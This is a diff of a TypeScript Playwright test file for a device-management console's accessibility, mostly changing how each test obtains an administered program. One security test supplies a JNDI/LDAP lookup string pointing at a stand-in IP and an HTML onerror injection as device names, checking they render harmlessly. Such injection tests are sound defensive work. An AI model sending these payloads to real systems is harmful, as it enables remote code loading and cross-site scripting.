@@ -3,6 +3,7 @@ import { expect, it } from 'vitest'
 import { administrator, type RunningProgram, startAdministered } from '../running-program.ts'
 import { temporaryFolder } from '../temporary-folder.ts'
 import { Visitor } from '../visitor.ts'
+import { administeredForThisFile, forgetAdministrator } from './administered-program.ts'
 import {
   browserForThisFile,
   confirm,
@@ -14,6 +15,7 @@ import {
 } from './console-page.ts'
 
 const open = browserForThisFile()
+const administered = administeredForThisFile()
 const phone: Look = { name: 'phone, dark', width: 390, colorScheme: 'dark' }
 
 const safari =
@@ -90,7 +92,7 @@ function said(page: Page, text: string): Promise<void> {
 it.each(looks.slice(1, 3))(
   '$name: the devices, their menu and each of its dialogs are accessible',
   async (look) => {
-    const program = await startAdministered(temporaryFolder())
+    const program = await forgetAdministrator(administered())
     await anotherDevice(program, 'A name of sixty characters, which is as long as one may be …')
     const page = await openDevices(program, 2, look)
     await expectAccessible(page)
@@ -117,7 +119,7 @@ it.each(looks.slice(1, 3))(
 )
 
 it('by keyboard alone: a device renamed, trusted and forgotten, the focus never lost', async () => {
-  const program = await startAdministered(temporaryFolder())
+  const program = await forgetAdministrator(administered())
   await anotherDevice(program, null)
   const page = await openDevices(program, 2)
   await press(page, 'Tab', /^Actions for the device Safari on macOS/)
@@ -154,7 +156,7 @@ it('by keyboard alone: a device renamed, trusted and forgotten, the focus never 
 })
 
 it('two devices that look the same have buttons that a screen reader tells apart', async () => {
-  const program = await startAdministered(temporaryFolder())
+  const program = await forgetAdministrator(administered())
   await anotherDevice(program, null)
   await anotherDevice(program, null)
   const page = await openDevices(program, 3)
@@ -168,6 +170,10 @@ it('two devices that look the same have buttons that a screen reader tells apart
 it('consent is given by keyboard, and the browser is then looked at', async () => {
   const program = await startAdministered(temporaryFolder(), { LATCHKEY_FINGERPRINTING: 'consent' })
   const page = await openDevices(program, 1, phone)
+  // Without a screen, the browser is not idle after a key before the page has waited its longest, nine times over.
+  await page.evaluate(() => {
+    window.requestIdleCallback = (run) => window.setTimeout(run, 0)
+  })
   const question = page.getByRole('heading', { name: /^May we recognise this browser/ })
   await question.waitFor()
   await expectAccessible(page)
@@ -188,7 +194,7 @@ it('consent is given by keyboard, and the browser is then looked at', async () =
 })
 
 it('a device that is forgotten in one tab goes from another', async () => {
-  const program = await startAdministered(temporaryFolder())
+  const program = await forgetAdministrator(administered())
   await anotherDevice(program, 'Studio')
   const first = await openDevices(program, 2)
   const second = await first.context().newPage()
@@ -202,7 +208,7 @@ it('a device that is forgotten in one tab goes from another', async () => {
 })
 
 it('names and user agents that are meant to do harm appear as text, and turn nothing around', async () => {
-  const program = await startAdministered(temporaryFolder())
+  const program = await forgetAdministrator(administered())
   // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what log libraries are attacked with
   const lookup = '${jndi:ldap://192.0.2.1/a}'
   const names = ['<img src=x onerror="document.title=1">', lookup, 'جهاز الحاسوب 👩‍💻']
@@ -221,7 +227,7 @@ it('names and user agents that are meant to do harm appear as text, and turn not
 })
 
 it('the devices of a user, and what the program finds wrong with itself, are accessible to administrators', async () => {
-  const program = await startAdministered(temporaryFolder())
+  const program = await forgetAdministrator(administered())
   await anotherDevice(program, 'Studio')
   const page = await open(phone)
   const finding = { check: 'addresses', message: 'All come from one address.', remedy: 'Name the proxy.' }
